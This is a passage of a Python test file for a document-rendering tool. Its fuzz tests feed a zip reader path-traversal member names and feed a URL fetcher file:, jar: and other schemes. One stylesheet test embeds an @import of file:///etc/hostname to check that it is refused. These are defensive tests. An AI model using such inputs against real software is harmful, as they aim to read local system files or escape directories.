        st.lists(st.text(min_size=0, max_size=40), max_size=6).map(_zip_with),
        st.lists(
            st.from_regex(
                r"(\.\.|[A-Za-z]:|/|\\|con|ảnh|a\.css|template\.toml){1,6}", fullmatch=True
            ),
            max_size=6,
        ).map(_zip_with),
    )
)
def test_fuzz_packs_end_in_members_or_a_user_error(data: bytes, tmp_path: Path) -> None:
    from ansinh.core.packs import read_pack

    pack = tmp_path / "fuzz.zip"
    pack.write_bytes(data)
    try:
        members, skipped = read_pack(pack)
    except UserError as exc:
        assert exc.vi and exc.en
        return
    for name in [*members, *skipped]:
        parts = name.split("/")
        assert ".." not in parts and not name.startswith("/") and ":" not in name


@FUZZ
@given(
    url=st.one_of(
        st.text(max_size=200),
        st.from_regex(r"(file|data|http|ftp|FILE|jar|)(:|://)[^\n]{0,80}", fullmatch=True),
    )
)
@example(url="FILE://[")  # found by this test: urlsplit raised instead of a refusal
def test_fuzz_urls_are_served_from_the_roots_or_refused(url: str, tmp_path: Path) -> None:
    from ansinh.core.render.fetcher import SafeFetcher

    fetcher = SafeFetcher([tmp_path])
    try:
        response = fetcher.fetch(url)
    except ValueError:
        assert fetcher.refused
        return
    assert url.lower().startswith("data:")  # nothing else exists inside the empty root
    assert response.read() is not None


def test_a_kept_stylesheet_reports_its_refusals_on_every_render(tmp_path: Path) -> None:
    """Parsed <style> sheets are kept between renders (layout._stylesheet); what their
    fetcher refused must still be reported each time, and the page must look the same."""
    import pypdfium2 as pdfium

    from ansinh.core.render import layout

    html = ('<html><head><style>@import url("file:///etc/hostname"); '
            "p { color: rgb(200, 0, 0); font-size: 40px }</style></head>"
            "<body><p>Thôn Đồng Tâm</p></body></html>")
    renders = [layout.lay_out(html, tmp_path, [tmp_path]) for _ in range(2)]
    for _document, fetcher in renders:
        assert fetcher.refused == ["file:///etc/hostname"]
    pictures = []
    for document, _fetcher in renders:
        pdf = pdfium.PdfDocument(document.write_pdf())
        pictures.append(pdf[0].render(scale=1).to_pil().convert("RGB"))
        pdf.close()
    assert pictures[0].tobytes() == pictures[1].tobytes()
    colours = {colour for _count, colour in pictures[1].getcolors(1 << 16)}
    assert (200, 0, 0) in colours  # the kept sheet still styles the text
